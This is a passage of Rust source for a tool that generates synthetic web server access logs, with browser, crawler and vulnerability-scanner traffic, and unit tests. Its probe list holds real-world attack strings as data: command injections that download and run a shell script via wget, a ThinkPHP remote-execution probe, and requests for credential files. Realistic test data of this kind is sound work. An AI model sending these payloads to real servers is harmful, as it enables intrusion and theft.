// ---------------------------------------------------------------------------------------------
// access.log

const PAGES: &[&str] = &[
    "/",
    "/about/",
    "/blog/",
    "/contact/",
    "/feed.xml",
    "/robots.txt",
    "/favicon.ico",
    "/sitemap.xml",
    "/projects/",
    "/search?q=rust",
    "/tags/linux/",
    "/tags/security/",
];
const ASSETS: &[&str] = &[
    "/static/css/main.css?v=3",
    "/static/js/app.js?v=3",
    "/static/img/logo.svg",
    "/static/fonts/inter-var.woff2",
    "/static/img/hero.webp",
    "/static/js/search.js",
];
const PROBES: &[&str] = &[
    "/wp-login.php",
    "/xmlrpc.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/",
    "/pma/index.php",
    "/admin/",
    "/wp-admin/setup-config.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F0.0.0.0%2Ft%7Csh%60)",
    "/boaform/admin/formLogin",
    "/HNAP1/",
    "/actuator/health",
    "/.aws/credentials",
    "/config.json",
    "/server-status",
    "/wp-content/plugins/revslider/temp/update_extract/revslider/",
    "/shell?cd+/tmp;rm+-rf+*;wget+http://0.0.0.0/jaws;sh+/tmp/jaws",
    "/owa/auth/logon.aspx",
    "/solr/admin/info/system?wt=json",
    "/console/",
    "/.DS_Store",
    "/backup.sql",
    "/api/v1/pods",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=HelloThinkPHP",
    "/owncloud/status.php",
    "/geoserver/web/",
    "/remote/login",
    "/login.action",
    "/.well-known/security.txt",
];
const BROWSERS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
];
const BOTS: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
];
const SCANNERS: &[&str] = &[
    "Mozilla/5.0 zgrab/0.x",
    "python-requests/2.32.3",
    "Go-http-client/1.1",
    "curl/8.5.0",
    "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "-",
    "Mozilla/5.0 (l9scan/2.0.; +https://leakix.net)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
];

struct AccessGen {
    rng: Rng,
    pool: Pool,
}

impl AccessGen {
    /// A visit: lines without timestamps yet, each (delay, ip, request, status, bytes,
    /// referer, agent).
    fn visit(&mut self, host: &str) -> Vec<(f64, String)> {
        let rank = self.pool.sample(&mut self.rng);
        // Web servers log the IPv4-mapped form only when misconfigured; strip it here.
        let ip = self.pool.text[rank]
            .trim_start_matches("::ffff:")
            .to_string();
        let mut v = Vec::new();
        let line = |delay: f64,
                    method: &str,
                    path: &str,
                    status: u16,
                    bytes: u64,
                    referer: &str,
                    ua: &str| {
            (
                delay,
                format!(
                    "{ip} - - TS \"{method} {path} HTTP/1.1\" {status} {bytes} \"{referer}\" \"{ua}\""
                ),
            )
        };
        match self.rng.weighted(&[45, 20, 30, 5]) {
            0 => {
                // A browser: page and its assets, maybe a few more pages.
                let ua = *self.rng.pick(BROWSERS);
                let pages = 1 + self.rng.weighted(&[60, 20, 10, 5, 5]);
                let mut referer = if self.rng.chance(0.3) {
                    "https://www.google.com/".to_string()
                } else {
                    "-".to_string()
                };
                let mut delay = 0.0;
                for _ in 0..pages {
                    let page = if self.rng.chance(0.5) {
                        format!(
                            "/blog/{}/{}/",
                            2018 + self.rng.below(9),
                            slug(&mut self.rng)
                        )
                    } else {
                        self.rng.pick(PAGES).to_string()
                    };
                    let status = *self.rng.pick(&[200, 200, 200, 200, 200, 304, 404, 301]);
                    let size = if status == 304 {
                        0
                    } else {
                        self.rng.range(2_000, 60_000)
                    };
                    v.push(line(delay, "GET", &page, status, size, &referer, ua));
                    let n_assets = if self.rng.chance(0.6) {
                        ASSETS.len()
                    } else {
                        self.rng.below(3) as usize
                    };
                    let this = format!("https://{host}{page}");
                    for a in &ASSETS[..n_assets] {
                        let st = if self.rng.chance(0.4) { 304 } else { 200 };
                        let sz = if st == 304 {
                            0
                        } else {
                            self.rng.range(500, 250_000)
                        };
                        v.push(line(self.rng.exp(0.05), "GET", a, st, sz, &this, ua));
                    }
                    referer = this;
                    delay = self.rng.exp(40.0);
                }
            }
            1 => {
                let ua = *self.rng.pick(BOTS);
                let n = 1 + self.rng.below(12) as usize;
                for i in 0..n {
                    let path = if i == 0 && self.rng.chance(0.3) {
                        "/robots.txt".to_string()
                    } else if self.rng.chance(0.7) {
                        format!(
                            "/blog/{}/{}/",
                            2018 + self.rng.below(9),
                            slug(&mut self.rng)
                        )
                    } else {
                        self.rng.pick(PAGES).to_string()
                    };
                    let st = *self.rng.pick(&[200, 200, 200, 301, 404]);
                    v.push(line(
                        self.rng.exp(3.0),
                        "GET",
                        &path,
                        st,
                        self.rng.range(300, 60_000),
                        "-",
                        ua,
                    ));
                }
            }
            2 => {
                // A vulnerability scanner: a burst of probes, heavy-tailed length.
                let ua = *self.rng.pick(SCANNERS);
                let n = match self.rng.weighted(&[50, 25, 15, 10]) {
                    0 => 1,
                    1 => self.rng.range(2, 8),
                    2 => self.rng.range(8, 40),
                    _ => self.rng.range(40, 200),
                };
                for _ in 0..n {
                    let path = *self.rng.pick(PROBES);
                    let method = if path.contains("login") && self.rng.chance(0.5) {
                        "POST"
                    } else {
                        "GET"
                    };
                    let st = *self
                        .rng
                        .pick(&[404, 404, 404, 404, 404, 403, 400, 301, 200]);
                    v.push(line(
                        self.rng.exp(0.7),
                        method,
                        path,
                        st,
                        self.rng.range(0, 600),
                        "-",
                        ua,
                    ));
                }
            }
            _ => {
                // TLS on the plain port, or garbage.
                let raw = *self.rng.pick(&[
                    "\\x16\\x03\\x01\\x00\\xEE\\x01\\x00\\x00\\xEA\\x03\\x03",
                    "SSH-2.0-Go",
                    "\\x00",
                    "MGLNDD_203.0.113.7_80",
                ]);
                v.push((0.0, format!("{ip} - - TS \"{raw}\" 400 150 \"-\" \"-\"")));
                if self.rng.chance(0.3) {
                    v.push(line(self.rng.exp(1.0), "HEAD", "/", 200, 0, "-", "-"));
                }
            }
        }
        v
    }
}

fn slug(rng: &mut Rng) -> String {
    const WORDS: &[&str] = &[
        "rust",
        "nginx",
        "tuning",
        "notes",
        "home",
        "lab",
        "backup",
        "zfs",
        "linux",
        "kernel",
        "ssh",
        "hardening",
        "wireguard",
        "docker",
        "postgres",
        "why",
        "how",
        "my",
        "setup",
    ];
    let n = rng.range(2, 5);
    let mut s = String::new();
    for i in 0..n {
        if i > 0 {
            s.push('-');
        }
        let w = *rng.pick(WORDS);
        s.push_str(w);
    }
    s
}

fn gen_access(o: &Opts, out: &mut impl Write) -> io::Result<u64> {
    let mut rng = Rng::new(o.seed ^ 0xACCE55);
    let pool = Pool::new(&mut rng, o.addresses, 1.05);
    let mut g = AccessGen { rng, pool };
    let start = o.start_days as f64 * 86_400.0;
    let span = o.days * 86_400.0;
    let mut now = start;
    let mut written: u64 = 0;
    let mut line = String::with_capacity(512);
    let host = o.host.clone();
    // Visits overlap on a real server; a few in flight are merged by time.
    let mut active: Vec<(f64, std::collections::VecDeque<(f64, String)>)> = Vec::new();
    while written < o.size {
        let target = start + span * (written as f64 / o.size as f64);
        let min_next = active.iter().map(|a| a.0).fold(f64::INFINITY, f64::min);
        if active.len() < 2 || (min_next > target && active.len() < 64) {
            let mut lines: std::collections::VecDeque<_> = g.visit(&host).into();
            if let Some(f) = lines.front_mut() {
                f.0 = 0.0;
            }
            active.push((now.max(target), lines));
            continue;
        }
        let i = active
            .iter()
            .enumerate()
            .min_by(|a, b| a.1.0.total_cmp(&b.1.0))
            .map(|(i, _)| i)
            .unwrap_or(0);
        let (next, lines) = &mut active[i];
        let Some((_, text)) = lines.pop_front() else {
            active.swap_remove(i);
            continue;
        };
        now = now.max(*next);
        line.clear();
        let (before, after) = text.split_once(" TS ").unwrap_or((&text, ""));
        line.push_str(before);
        line.push(' ');
        write_clf_ts(&mut line, now);
        line.push(' ');
        line.push_str(after);
        line.push('\n');
        out.write_all(line.as_bytes())?;
        written += line.len() as u64;
        match lines.front() {
            Some(n) => *next = now + n.0,
            None => {
                active.swap_remove(i);
            }
        }
    }
    Ok(written)
}

fn run(o: &Opts) -> io::Result<u64> {
    let sink: Box<dyn Write> = match &o.out {
        Some(p) => Box::new(File::create(p)?),
        None => Box::new(io::stdout().lock()),
    };
    let mut out = BufWriter::with_capacity(1 << 20, sink);
    let n = match o.kind {
        Kind::Auth => gen_auth(o, &mut out)?,
        Kind::Access => gen_access(o, &mut out)?,
    };
    out.flush()?;
    Ok(n)
}

fn main() -> ExitCode {
    let o = match parse_args() {
        Ok(o) => o,
        Err(e) => {
            if e.is_empty() {
                println!("{USAGE}");
                return ExitCode::SUCCESS;
            }
            eprintln!("genlog: {e}\n{USAGE}");
            return ExitCode::from(2);
        }
    };
    match run(&o) {
        Ok(n) => {
            if let Some(p) = &o.out {
                eprintln!("genlog: wrote {n} bytes to {p}");
            }
            ExitCode::SUCCESS
        }
        Err(e) if e.kind() == io::ErrorKind::BrokenPipe => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("genlog: {e}");
            ExitCode::from(2)
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn civil_round_trip() {
        for z in [-1000i64, 0, 365, 10_957, 20_000, 20_789, 30_000] {
            let (y, m, d) = civil_from_days(z);
            assert_eq!(days_from_civil(y, m, d), z);
        }
        assert_eq!(
            civil_from_days(days_from_civil(2026, 11, 30)),
            (2026, 11, 30)
        );
        assert_eq!(days_from_civil(1970, 1, 1), 0);
        assert_eq!(days_from_civil(2000, 3, 1), 11_017);
    }

    #[test]
    fn sizes() {
        assert_eq!(parse_size("200M"), Some(200 << 20));
        assert_eq!(parse_size("3k"), Some(3072));
        assert_eq!(parse_size("17"), Some(17));
        assert_eq!(parse_size("M"), None);
        assert_eq!(parse_size("x"), None);
    }

    #[test]
    fn deterministic_and_monotonic() {
        for kind in [Kind::Auth, Kind::Access] {
            let o = Opts {
                kind,
                size: 300_000,
                out: None,
                seed: 7,
                start_days: days_from_civil(2026, 11, 2),
                days: 3.0,
                ts: TsStyle::Rfc3339,
                addresses: 5_000,
                host: "h".into(),
            };
            let mut a = Vec::new();
            let mut b = Vec::new();
            gen_auth_or_access(&o, &mut a);
            gen_auth_or_access(&o, &mut b);
            assert_eq!(a, b);
            assert!(a.len() as u64 >= o.size);
            let text = String::from_utf8(a).unwrap();
            let stamps: Vec<&str> = match kind {
                Kind::Auth => text.lines().map(|l| &l[..26]).collect(),
                // Same month, so the CLF stamp sorts as text.
                Kind::Access => text
                    .lines()
                    .map(|l| l.split_once('[').unwrap().1.split_once(']').unwrap().0)
                    .collect(),
            };
            assert!(stamps.windows(2).all(|w| w[0] <= w[1]), "time goes forward");
            if kind == Kind::Auth {
                assert!(text.contains("Failed password for root from"));
                assert!(text.contains("Invalid user "));
            }
        }
    }

    #[test]
    fn pool_is_distinct_and_mixed() {
        let mut rng = Rng::new(3);
        let pool = Pool::new(&mut rng, 20_000, 1.1);
        let set: HashSet<&String> = pool.text.iter().collect();
        assert_eq!(set.len(), 20_000);
        let mut v6 = 0;
        let mut mapped = 0;
        for t in &pool.text {
            let ip: std::net::IpAddr = t.parse().expect("a valid address");
            if t.starts_with("::ffff:") {
                mapped += 1;
            } else if ip.is_ipv6() {
                v6 += 1;
            }
        }
        assert!((600..1400).contains(&v6), "about 5 % IPv6, got {v6}");
        assert!(
            (200..1000).contains(&mapped),
            "some ::ffff: forms, got {mapped}"
        );
        // Heavy head: the first rank is drawn far more often than the median one.
        let mut hits = vec![0u32; 20_000];
        for _ in 0..100_000 {
            hits[pool.sample(&mut rng)] += 1;
        }
        assert!(
            hits[0] > 20 * hits[10_000].max(1),
            "{} vs {}",
            hits[0],
            hits[10_000]
        );
    }

    fn gen_auth_or_access(o: &Opts, out: &mut Vec<u8>) {
        match o.kind {
            Kind::Auth => gen_auth(o, out).unwrap(),
            Kind::Access => gen_access(o, out).unwrap(),
        };
    }
}
